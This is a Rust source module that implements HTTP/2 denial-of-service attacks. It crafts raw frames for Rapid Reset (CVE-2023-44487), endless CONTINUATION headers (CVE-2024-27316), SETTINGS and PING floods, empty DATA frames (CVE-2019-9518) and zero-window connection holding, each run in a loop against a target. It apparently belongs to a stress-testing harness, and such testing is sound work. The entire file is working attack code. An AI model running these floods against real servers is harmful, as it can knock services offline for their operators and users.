//! Attacks that only HTTP/2 knows (RFC 9113).

use std::io::{self, Read};
use std::net::TcpStream;
use std::thread;
use std::time::Duration;

use super::ground::Ground;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// Streams are odd and below this.
const LAST_STREAM: u32 = 1 << 31;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = u32::try_from(payload.len()).expect("frames are small").to_be_bytes();
    [&len[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// GET or POST of a beacon, `:path` and `:authority` as literals (RFC 7541, appendix A).
fn head(method: u8, path: &str) -> Vec<u8> {
    let len = u8::try_from(path.len()).expect("a short path");
    [&[method, 0x86, 0x04, len][..], path.as_bytes(), &[0x01, 1], b"x"].concat()
}

const GET: u8 = 0x82;
const POST: u8 = 0x83;

/// A connection that has said hello.
fn connect(ground: &Ground, settings: &[u8]) -> io::Result<TcpStream> {
    let stream = ground.connect()?;
    ground.send(&stream, &[PREFACE, &frame(SETTINGS, 0, 0, settings)].concat())?;
    Ok(stream)
}

/// Sends what `more` makes for a number that begins at 0 on each connection, throwing away what comes back.
fn flood(ground: &Ground, requests: u64, mut more: impl FnMut(u32) -> Vec<u8>) {
    let mut buffer = vec![0; 65_536];
    while !ground.is_over() {
        let Ok(mut stream) = connect(ground, &[]) else { continue };
        for number in 0.. {
            let bytes = more(number);
            ground.requested(requests);
            if ground.is_over() || ground.send(&stream, &bytes).is_err() {
                break;
            }
            let is_set = stream.set_nonblocking(true);
            let read = stream.read(&mut buffer);
            let is_open = !matches!(read, Ok(0)) && is_set.and_then(|()| stream.set_nonblocking(false)).is_ok();
            if !is_open {
                break;
            }
        }
    }
}

/// Requests that are taken back at once (CVE-2023-44487), a hundred a write.
pub fn rapid_reset(ground: &Ground) {
    let head = head(GET, "/api/beacon");
    flood(ground, 100, |number| {
        let streams = (0..100).map(|n| (2 * (number * 100 + n) + 1) % LAST_STREAM);
        let pair = |stream| {
            [frame(HEADERS, END_HEADERS | END_STREAM, stream, &head), frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])]
                .concat()
        };
        streams.flat_map(pair).collect()
    });
}

/// A head that goes on for ever (CVE-2024-27316).
pub fn continuation(ground: &Ground) {
    // a field that is not indexed, of 100 bytes, in frames of 16 KB
    let field = [&[0x00, 1, b'a', 100][..], &[b'b'; 100]].concat();
    let rest = frame(CONTINUATION, 0, 1, &field.repeat(150));
    flood(ground, 0, |number| if number == 0 { frame(HEADERS, 0, 1, &head(GET, "/api/beacon")) } else { rest.clone() });
}

/// Settings, each of which wants an answer.
pub fn settings(ground: &Ground) {
    flood(ground, 0, |_| frame(SETTINGS, 0, 0, &[]).repeat(1_000));
}

/// The same with pings.
pub fn ping(ground: &Ground) {
    flood(ground, 0, |_| frame(PING, 0, 0, b"01234567").repeat(1_000));
}

/// A body in pieces of nothing (CVE-2019-9518).
pub fn empty_data(ground: &Ground) {
    let nothing = frame(DATA, 0, 1, &[]).repeat(1_000);
    flood(ground, 0, |number| {
        if number == 0 { frame(HEADERS, END_HEADERS, 1, &head(POST, "/api/beacon")) } else { nothing.clone() }
    });
}

/// Asks for the client on many connections, a hundred times each, and takes no byte of it.
pub fn closed_window(ground: &Ground) {
    // SETTINGS_INITIAL_WINDOW_SIZE is 0
    let settings = [0, 4, 0, 0, 0, 0];
    let head = head(GET, "/beacon.js");
    let requests: Vec<u8> = (0..100).flat_map(|n| frame(HEADERS, END_HEADERS | END_STREAM, 2 * n + 1, &head)).collect();
    let mut held = Vec::new();
    while !ground.is_over() {
        // what was closed makes room for more
        if held.len() == 500 {
            held.clear();
        }
        let Ok(stream) = connect(ground, &settings) else {
            thread::sleep(Duration::from_millis(1));
            continue;
        };
        ground.requested(100);
        if ground.send(&stream, &requests).is_ok() {
            held.push(stream);
        }
    }
}
